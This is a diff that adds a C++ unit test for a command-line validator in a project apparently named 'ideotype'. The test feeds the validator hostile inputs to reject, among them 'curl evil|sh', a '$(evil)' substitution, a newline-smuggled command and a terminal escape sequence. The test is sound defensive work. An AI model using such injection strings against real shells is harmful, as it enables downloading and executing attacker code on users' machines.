@@ -28,5 +28,18 @@ TEST(WayOn, StartsAsTheRunWasStarted) {
               "--resume");
 }
 
+TEST(WayOn, KnowsAStartOfThisProgram) {
+    for (const std::vector<std::string>& words :
+         {std::vector<std::string>{"/a b/ideotype", "run", "it's $x.toml"},
+          {"ideotype", "sensitivity", "a.toml"}})
+        EXPECT_TRUE(is_start(quoted(words))) << quoted(words);
+    for (const char* foreign :
+         {"", "ideotype run x.toml; curl evil|sh", "ideotype run $(evil)",
+          "ideotype run 'x", "ideotype run x\\", "ideotype run 'x\x1b[1A'",
+          "ideotype run x\nevil", "evil run x.toml", "ideotype status x",
+          "ideotype run  x"})
+        EXPECT_FALSE(is_start(foreign)) << foreign;
+}
+
 }  // namespace
 }  // namespace ideotype
